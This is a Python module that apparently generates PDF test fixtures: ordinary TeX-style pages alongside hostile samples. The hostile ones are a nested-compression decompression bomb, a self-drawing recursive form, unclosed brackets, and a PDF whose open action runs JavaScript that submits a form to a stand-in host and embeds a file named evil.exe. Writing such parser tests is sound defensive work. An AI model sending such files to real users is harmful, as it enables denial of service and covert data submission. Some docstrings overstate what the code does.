"""PDFs written byte by byte: as TeX sets them, and as nobody should."""

from __future__ import annotations

import zlib
from collections.abc import Sequence

FONTS = {
    "F1": "/Type /Font /Subtype /Type1 /BaseFont /Times-Roman",
    "F2": "/Type /Font /Subtype /Type1 /BaseFont /Times-Italic",
    "F3": "/Type /Font /Subtype /Type1 /BaseFont /Courier",
}
# StandardEncoding has the ligatures at these places.
LIGATURES = {"fi": "\xae", "fl": "\xaf"}


def pdf_of(
    contents: Sequence[bytes],
    *,
    size: tuple[float, float] = (612, 792),
    filters: str = "",
    catalog: str = "",
    extra: Sequence[tuple[int, bytes]] = (),
    resources: str = "",
) -> bytes:
    """Return a PDF with a page for each content stream; `extra` are objects from number 1000 on."""
    objects: dict[int, bytes] = {}
    names = dict(zip(FONTS, range(3, 3 + len(FONTS))))
    for name, number in names.items():
        objects[number] = f"<< {FONTS[name]} >>".encode()
    kids = []
    for i, content in enumerate(contents):
        page, stream = 10 + 2 * i, 11 + 2 * i
        kids.append(f"{page} 0 R")
        fonts = " ".join(f"/{name} {number} 0 R" for name, number in names.items())
        objects[page] = (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {size[0]:g} {size[1]:g}] "
            f"/Contents {stream} 0 R /Resources << /Font << {fonts} >> {resources} >> >>"
        ).encode()
        objects[stream] = (
            f"<< /Length {len(content)} {filters} >>\nstream\n".encode() + content + b"\nendstream"
        )
    objects[1] = f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode()
    objects[2] = f"<< /Type /Pages /Kids [{' '.join(kids)}] /Count {len(kids)} >>".encode()
    objects.update(extra)
    return with_table(objects)


def with_table(objects: dict[int, bytes]) -> bytes:
    data = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, body in sorted(objects.items()):
        places[number] = len(data)
        data += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(data)
    data += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in sorted(places.items()):
        data += f"{number} 1\n{place:010d} 00000 n \n".encode()
    data += f"trailer\n<< /Size {max(objects) + 1} /Root 1 0 R >>\n".encode()
    return bytes(data + f"startxref\n{start}\n%%EOF\n".encode())


def escaped(text: str) -> bytes:
    for plain, one in LIGATURES.items():
        text = text.replace(plain, one)
    for special in "\\()":
        text = text.replace(special, f"\\{special}")
    return text.encode("latin-1")


def tex_line(text: str, x: float, y: float, size: float = 10) -> bytes:
    """Set a line as TeX does: no blank is written, only moves; "_{CE}" is set small and lower."""
    parts = text.split("_{")
    out = [f"BT /F1 {size:g} Tf 1 0 0 1 {x:g} {y:g} Tm ".encode(), kerned(parts[0])]
    for part in parts[1:]:
        low, _, rest = part.partition("}")
        small = 0.7 * size
        out.append(f"/F2 {small:g} Tf -1.5 Ts ".encode() + kerned(low))
        out.append(f"/F1 {size:g} Tf 0 Ts ".encode() + (kerned(rest, first=True) if rest else b""))
    return b"".join([*out, b"ET\n"])


def kerned(text: str, first: bool = False) -> bytes:
    words = text.split(" ")
    pieces = [b"(" + escaped(word) + b")" for word in words]
    lead = b"-333 " if first and not words[0] else b""
    return b"[" + lead + b"-333 ".join(piece for piece in pieces) + b"] TJ "


def tex_column(lines: Sequence[str], x: float, y: float, size: float = 10) -> bytes:
    return b"".join(tex_line(line, x, y - 1.2 * size * i, size) for i, line in enumerate(lines))


def bomb(mib: int) -> bytes:
    """Return a page whose content is compressed twice and unfolds to so many MiB."""
    once = zlib.compressobj(9)
    packed = bytearray()
    block = b"0 0 m 1 1 l S " * 4681
    for _ in range(mib * 16):
        packed += once.compress(block)
    packed += once.flush()
    return pdf_of([zlib.compress(bytes(packed), 9)], filters="/Filter [/FlateDecode /FlateDecode]")


def page_that_holds_itself() -> bytes:
    """Return a PDF with a form that draws itself, and pages that are their own parents."""
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 100 100] /Length 6 "
    form += b"/Resources << /XObject << /X 1000 0 R >> >> >>\nstream\n/X Do \nendstream"
    return pdf_of([b"/X Do"], resources="/XObject << /X 1000 0 R >>", extra=[(1000, form)])


def nested(depth: int) -> bytes:
    """Return a page whose content opens brackets and never closes them."""
    return pdf_of([b"[" * depth + b" << " * depth])


def active() -> bytes:
    """Return a PDF that would run JavaScript, launch a program, open a link, and has a file."""
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://x.invalid'\\)) >>"
    names = (
        "/Names << /JavaScript << /Names [(a) 1000 0 R] >> "
        "/EmbeddedFiles << /Names [(evil.exe) 1001 0 R] >> >> /OpenAction 1000 0 R"
    )
    file = b"<< /Type /Filespec /F (evil.exe) /EF << /F 1002 0 R >> >>"
    body = b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream"
    lines = ["The test cross-entropy is 0.4512 and the test accuracy is 84.1%."]
    return pdf_of(
        [tex_column(lines, 72, 700)],
        catalog=names,
        extra=[(1000, script), (1001, file), (1002, body)],
    )
